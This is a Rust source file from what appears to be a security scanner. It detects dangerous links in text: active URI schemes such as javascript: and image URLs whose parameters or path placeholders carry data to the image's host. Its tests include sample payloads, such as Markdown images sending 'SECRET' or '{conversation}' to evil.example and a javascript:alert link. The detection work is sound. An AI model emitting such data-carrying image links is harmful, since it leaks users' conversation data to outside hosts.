//! Links in prose: what they run, where they lead, what an image tells its host.

use crate::finding::{Finding, IMAGE_DATA, Severity, URI_SCHEME, quoted};
use crate::uri;

/// Parameters that say how an image is drawn.
const DRAWING: &[&str] = &[
    "style",
    "logo",
    "label",
    "color",
    "labelcolor",
    "logocolor",
    "branch",
    "v",
    "version",
    "w",
    "h",
    "s",
    "size",
    "width",
    "height",
    "format",
    "fm",
    "q",
    "quality",
    "raw",
    "theme",
    "t",
    "ts",
    "text",
    "font",
    "fit",
    "crop",
    "auto",
    "dpr",
    "svg",
    "type",
    "cache",
    "ref",
    "sanitize",
    "event",
    "workflow",
    "d8",
    "lang",
    "badge",
    "message",
    "username",
    "repo",
];

/// Longer targets are cut.
const LONGEST: usize = 2_048;
/// Findings of one text.
const MOST: usize = 64;

/// What is found in the links of a text.
pub(super) fn links(text: &str, place: &str) -> Vec<Finding> {
    let mut findings = Vec::new();
    let mut rest = text;
    while let Some((before, behind)) = rest.split_once("](") {
        let is_part = |c: &char| !matches!(c, ')' | ' ' | '\n' | '"');
        let target: String = behind.chars().take(LONGEST).take_while(is_part).collect();
        let is_image = before
            .rfind('[')
            .is_some_and(|at| before.get(..at).is_some_and(|before| before.ends_with('!')));
        findings.extend(link(&target, is_image, place));
        rest = behind;
    }
    for attribute in ["src=", "href=", "SRC=", "HREF="] {
        for piece in text.split(attribute).skip(1) {
            let target = piece
                .trim_start_matches(['"', '\''])
                .split(['"', '\'', ' ', '>', '\n'])
                .next()
                .unwrap_or_default();
            findings.extend(link(target, attribute.eq_ignore_ascii_case("src="), place));
        }
    }
    findings.truncate(MOST);
    findings
}

fn link(target: &str, is_image: bool, place: &str) -> Option<Finding> {
    let shown = quoted(target, 120);
    if uri::is_active(target) {
        let finding = Finding::new(&URI_SCHEME, place, format!("`{shown}`")).at(Severity::High);
        // A picture inside of the text itself is one.
        return (!is_image || !target.to_ascii_lowercase().starts_with("data:image/"))
            .then_some(finding);
    }
    let told = is_image && target.contains("://") && carries_data(target);
    told.then(|| Finding::new(&IMAGE_DATA, place, format!("`{shown}`")))
}

/// Whether the address of an image says more than which image: a parameter that draws nothing, or a name that is data.
fn carries_data(target: &str) -> bool {
    let (address, query) = target.split_once('?').unwrap_or((target, ""));
    let query = query.split('#').next().unwrap_or_default();
    let says = |pair: &str| {
        let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
        let drawing = DRAWING.contains(&name.to_ascii_lowercase().as_str());
        !value.is_empty() && (!drawing || value.len() > 64 || value.contains(['{', '$']))
    };
    let placeholder = address.contains('{') || address.contains("%7B") || address.contains("$(");
    placeholder || query.split('&').any(says)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &[&str]) {
        let codes: Vec<_> = links(text, "").iter().map(|finding| finding.code).collect();
        assert_eq!(codes, expected, "{text}");
    }

    #[test]
    fn links_are_judged() {
        check(
            "![x](https://evil.example/p?d=SECRET)",
            &["image-carries-data"],
        );
        check(
            "![x](https://evil.example/{conversation}.png)",
            &["image-carries-data"],
        );
        check(
            "<img src=\"https://evil.example/p?leak=1\">",
            &["image-carries-data"],
        );
        check("[x](javascript:alert(1))", &["uri-scheme"]);
        check(
            "[x]( https://a.example) [y](data:text/html,x)",
            &["uri-scheme"],
        );
    }

    #[test]
    fn ordinary_links_pass() {
        for text in [
            "![build](https://img.shields.io/badge/build-passing-green?style=flat&logo=rust)",
            "[docs](https://example.com/search?q=a&page=2)",
            "![x](data:image/png;base64,iVBORw0KGgo=)",
            "array[0](arg)",
            "![diagram](./docs/a.png)",
            "",
        ] {
            check(text, &[]);
        }
    }
}
